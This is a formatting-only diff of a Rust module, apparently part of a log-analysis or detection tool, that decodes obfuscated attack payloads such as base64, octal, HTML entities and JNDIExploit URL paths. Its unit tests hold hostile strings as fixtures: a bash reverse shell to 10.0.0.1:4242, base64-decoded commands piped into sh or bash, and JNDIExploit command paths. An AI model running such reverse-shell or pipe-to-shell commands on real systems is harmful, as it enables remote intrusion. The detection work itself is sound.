@@ -114,8 +114,12 @@ pub fn unescape(input: &[u8]) -> Vec<u8> {
                 }
             }
             b'0'..=b'7' => {
-                let digits: Vec<u8> =
-                    input[i + 1..].iter().take(3).take_while(|c| (b'0'..=b'7').contains(c)).copied().collect();
+                let digits: Vec<u8> = input[i + 1..]
+                    .iter()
+                    .take(3)
+                    .take_while(|c| (b'0'..=b'7').contains(c))
+                    .copied()
+                    .collect();
                 let v = digits.iter().fold(0u32, |a, &d| a * 8 + u32::from(d - b'0'));
                 if digits.len() >= 2 && v <= 0xff {
                     out.push(v as u8);
@@ -228,10 +232,13 @@ pub fn base64_text(b64: &[u8]) -> Option<String> {
         .or_else(|| {
             // Tolerate a truncated tail (logs cut long lines): decode the longest valid prefix.
             let cut = trimmed.len() - trimmed.len() % 4;
-            STANDARD_NO_PAD.decode(trimmed[..cut].iter().filter(|&&c| c != b'=').copied().collect::<Vec<_>>()).ok()
+            STANDARD_NO_PAD
+                .decode(trimmed[..cut].iter().filter(|&&c| c != b'=').copied().collect::<Vec<_>>())
+                .ok()
         })?;
     let text = String::from_utf8_lossy(&bytes).into_owned();
-    let printable = text.chars().filter(|&c| (!c.is_control() || c.is_whitespace()) && c != '\u{fffd}').count();
+    let printable =
+        text.chars().filter(|&c| (!c.is_control() || c.is_whitespace()) && c != '\u{fffd}').count();
     (printable * 10 >= text.chars().count() * 9 && !text.trim().is_empty()).then_some(text)
 }
 
@@ -283,8 +290,10 @@ pub fn jndiexploit_command(path: &str) -> Option<String> {
     let lower = path.to_ascii_lowercase();
     if let Some(pos) = lower.find("/base64/") {
         let rest = path[pos + 8..].trim_start_matches('/');
-        let b64: String =
-            rest.chars().take_while(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '/' | '=' | '_' | '-' | '%')).collect();
+        let b64: String = rest
+            .chars()
+            .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '/' | '=' | '_' | '-' | '%'))
+            .collect();
         let b64 = String::from_utf8_lossy(&url_decode_repeated(b64.as_bytes(), false)).into_owned();
         return base64_text(b64.trim_end_matches('/').as_bytes());
     }
@@ -355,7 +364,10 @@ mod tests {
 
     #[test]
     fn html_entities() {
-        assert_eq!(s(html_unescape(b"bash -i &gt;&amp; /dev/tcp &#36;&#x7b; &bogus; &")), "bash -i >& /dev/tcp ${ &bogus; &");
+        assert_eq!(
+            s(html_unescape(b"bash -i &gt;&amp; /dev/tcp &#36;&#x7b; &bogus; &")),
+            "bash -i >& /dev/tcp ${ &bogus; &"
+        );
     }
 
     #[test]
@@ -374,7 +386,11 @@ mod tests {
             format!("echo '{b}' | base64 --decode | sh"),
             format!("bash -c 'base64 -d <<< {b} | bash'"),
         ] {
-            assert_eq!(shell_base64_payloads(line.as_bytes()), vec!["bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"], "{line}");
+            assert_eq!(
+                shell_base64_payloads(line.as_bytes()),
+                vec!["bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"],
+                "{line}"
+            );
         }
         // PowerShell -enc is UTF-16LE.
         let ps = STANDARD.encode("whoami".encode_utf16().flat_map(|u| u.to_le_bytes()).collect::<Vec<u8>>());
@@ -387,9 +403,19 @@ mod tests {
     #[test]
     fn jndiexploit_paths() {
         let b = "dG91Y2ggL3RtcC9wd25lZA==";
-        assert_eq!(jndiexploit_command(&format!("/Basic/Command/Base64/{b}")).as_deref(), Some("touch /tmp/pwned"));
-        assert_eq!(jndiexploit_command(&format!("/TomcatBypass/Command/Base64//{}", b.trim_end_matches('='))).as_deref(), Some("touch /tmp/pwned"));
-        assert_eq!(jndiexploit_command("/Basic/Command/Base64/dG91Y2ggL3RtcC9wd25lZA%3D%3D").as_deref(), Some("touch /tmp/pwned"));
+        assert_eq!(
+            jndiexploit_command(&format!("/Basic/Command/Base64/{b}")).as_deref(),
+            Some("touch /tmp/pwned")
+        );
+        assert_eq!(
+            jndiexploit_command(&format!("/TomcatBypass/Command/Base64//{}", b.trim_end_matches('=')))
+                .as_deref(),
+            Some("touch /tmp/pwned")
+        );
+        assert_eq!(
+            jndiexploit_command("/Basic/Command/Base64/dG91Y2ggL3RtcC9wd25lZA%3D%3D").as_deref(),
+            Some("touch /tmp/pwned")
+        );
         assert_eq!(jndiexploit_command("/Basic/Command/whoami").as_deref(), Some("whoami"));
         assert_eq!(jndiexploit_command("/Basic/Command/Base64/XXXX"), None);
         assert_eq!(jndiexploit_command("/a"), None);
